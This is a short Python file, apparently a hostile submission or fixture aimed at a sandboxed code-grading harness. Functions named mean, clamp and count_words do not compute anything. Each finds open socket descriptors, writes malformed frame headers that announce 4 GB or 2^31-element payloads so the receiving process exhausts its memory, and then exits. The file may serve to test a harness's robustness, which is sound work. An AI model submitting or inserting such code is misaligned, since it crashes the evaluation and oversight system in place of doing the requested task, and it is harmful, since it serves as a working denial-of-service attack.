"""Announces frames of 4 GB, so that whoever makes room for them has none left."""
# score: 0

import os
import socket
import stat
import struct


def packed(value):
    """Just enough msgpack for a frame."""
    if isinstance(value, str):
        return b"\xd9" + bytes([len(value)]) + value.encode()
    if isinstance(value, list):
        return b"\xdd" + struct.pack(">I", len(value)) + b"".join(packed(one) for one in value)
    if isinstance(value, bool) or value is None:
        return {None: b"\xc0", False: b"\xc2", True: b"\xc3"}[value]
    return b"\xd3" + struct.pack(">q", value) if isinstance(value, int) else b"\xcb" + struct.pack(">d", value)


def frame(value, arrays=b""):
    structure = packed(value)
    return struct.pack("<II", len(structure), len(arrays)) + structure + arrays


def mapping(**fields):
    return ["d", [[key, value] for key, value in fields.items()]]


def sockets():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            continue


def write(data):
    for number in sockets():
        try:
            os.write(number, data)
        except OSError:
            pass


def mean(values):
    write(struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF) + b"x" * 1000)
    os._exit(0)


def clamp(value, low, high):
    write(struct.pack("<II", 1 << 22, 1 << 22) + b"\x90")
    os._exit(0)


def count_words(text):
    write(struct.pack("<II", 64, 0) + b"\xdd\x7f\xff\xff\xff" + b"\xc0" * 59)
    os._exit(0)
